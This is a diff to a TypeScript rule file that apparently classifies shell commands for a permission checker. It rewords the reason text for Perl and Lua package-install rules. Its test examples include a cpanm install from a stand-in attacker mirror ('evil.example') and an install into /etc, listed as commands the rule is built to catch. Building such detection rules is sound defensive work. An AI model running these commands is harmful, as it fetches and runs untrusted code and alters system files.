@@ -10,7 +10,7 @@ const REACHES_OUT = {
   reason: 'reaches files, programs or the network, or something outside the project',
 } as const;
 
-const CHANGES = 'changes what is installed, and packages may run scripts of their own';
+const CHANGES = 'changes what is installed; packages may run their own scripts';
 
 /** Ruby, PHP, Perl and other languages whose programs are run from source. */
 export const scripting: readonly ProgramRule[] = [
@@ -264,7 +264,7 @@ export const scripting: readonly ProgramRule[] = [
     network: true,
     operands: 'text',
     options: `-l:w -L:w -n -f -i -q -v --installdeps --notest --local-lib:w --mirror:u!CRITICAL --mirror-only -h!SAFE ${ASKING}`,
-    reason: 'changes what is installed, and packages may run scripts of their own',
+    reason: 'changes what is installed; packages may run their own scripts',
     match: ['cpanm Foo::Bar', 'cpan Foo::Bar', 'luarocks install x'],
     notMatch: ['cpanm --mirror http://evil.example Foo', 'cpanm -l /etc/x Foo'],
   },
